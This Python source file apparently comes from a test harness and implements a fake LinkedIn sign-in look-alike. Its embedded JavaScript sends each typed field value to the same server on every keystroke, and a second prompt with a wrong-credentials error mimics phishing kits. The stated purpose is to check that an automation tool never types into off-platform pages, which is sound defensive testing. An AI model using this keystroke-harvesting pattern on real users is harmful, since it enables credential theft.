"""A look-alike of LinkedIn's sign-in page on a host outside linkedin.com, as a phishing kit
serves it. The LinkedIn replica's redirect-foreign variant sends /login here.

The page is LinkedIn's own sign-in card (same labels, same button), but its script sends each
field's value to this site as it is typed, before any submit, and the form posts here too.
Everything received is kept in the admin state's `captured`, so a test can prove that a tool
typed nothing into a page outside the platform's domains.
"""

from __future__ import annotations

import threading
from typing import Any

from optout.replica.base import checked_variant
from optout.replica.linkedin.catalogue import FOREIGN_SIGN_IN_HOST, WRONG_CREDENTIALS
from optout.replica.linkedin.pages import SIGN_IN_TITLE, guest_page, sign_in_card
from optout.replica.server import Request, Response, html_response, json_response, redirect, storage_state

HOSTS = (FOREIGN_SIGN_IN_HOST,)
VARIANTS = ("default",)
SIGN_IN = "/login"
COLLECT = "/collect"  # where the page script sends each keystroke's field value

# On every input event, before any submit: what a credential-harvesting page does.
_CAPTURE_SCRIPT = f"""
document.querySelectorAll("form input[name]:not([type=hidden])").forEach((input) => {{
  input.addEventListener("input", () => {{
    fetch("{COLLECT}", {{
      method: "POST",
      headers: {{ "Content-Type": "application/json" }},
      body: JSON.stringify({{ field: input.name, value: input.value }}),
      keepalive: true,
    }});
  }});
}});
"""


class LookalikeReplica:
    """The look-alike site for ReplicaServer (server.Site). It has no accounts or settings."""

    hosts = HOSTS
    variants = VARIANTS

    def __init__(self, variant: str = "default"):
        self._lock = threading.Lock()
        checked_variant(variant, VARIANTS)
        self.reset()

    # -- admin (server.Site) --

    def reset(self, variant: str | None = None, settings: dict[str, bool] | None = None) -> None:
        checked_variant(variant or "default", VARIANTS)
        _no_settings(settings or {})
        with self._lock:
            self.captured: list[dict[str, str]] = []  # {"via": "input"|"form", "field", "value"}
            self.page_views = 0

    def set_variant(self, variant: str) -> None:
        checked_variant(variant, VARIANTS)

    def set_settings(self, settings: dict[str, bool]) -> None:
        _no_settings(settings)

    def expire_sessions(self) -> None:
        """Nothing to expire: nobody ever signs in here."""

    def mint_session(self) -> dict[str, Any]:
        return storage_state(HOSTS[0], {})

    def state(self) -> dict[str, Any]:
        with self._lock:
            return {
                "variant": "default",
                "settings": {},
                "page_views": self.page_views,
                "captured": [dict(entry) for entry in self.captured],
            }

    # -- the pages --

    def handle(self, request: Request) -> Response:
        if request.path == SIGN_IN and request.method == "GET":
            return self._sign_in_page(request)
        if request.path == SIGN_IN and request.method == "POST":
            return self._form_post(request)
        if request.path == COLLECT and request.method == "POST":
            return self._keystroke(request)
        if request.path == "/":
            return redirect(SIGN_IN)
        return Response(404, b"Not found\n", "text/plain; charset=utf-8")  # e.g. /favicon.ico: not a view

    def _sign_in_page(self, request: Request) -> Response:
        with self._lock:
            self.page_views += 1
        return _page(request.query.get("session_redirect", ""))

    def _form_post(self, request: Request) -> Response:
        form = request.form()
        self._capture("form", form)
        # Kits ask again, so the victim types it all a second time.
        return _page(form.get("session_redirect", ""), form.get("session_key", ""), WRONG_CREDENTIALS)

    def _keystroke(self, request: Request) -> Response:
        try:
            data = request.json()
            field, value = data["field"], data["value"]
        except (ValueError, TypeError, KeyError):
            field = value = None
        if not (isinstance(field, str) and isinstance(value, str)):
            return json_response({"error": 'send {"field": "...", "value": "..."}'}, 400)
        self._capture("input", {field: value})
        return json_response({})

    def _capture(self, via: str, fields: dict[str, str]) -> None:
        with self._lock:
            self.captured += [{"via": via, "field": field, "value": value} for field, value in fields.items()]


def _page(next_path: str, username: str = "", error: str | None = None) -> Response:
    card = sign_in_card(next_path, username, error, action=SIGN_IN)
    return html_response(guest_page(SIGN_IN_TITLE, card, _CAPTURE_SCRIPT))


def _no_settings(settings: Any) -> None:
    if settings != {}:
        raise ValueError("the look-alike site has no settings")
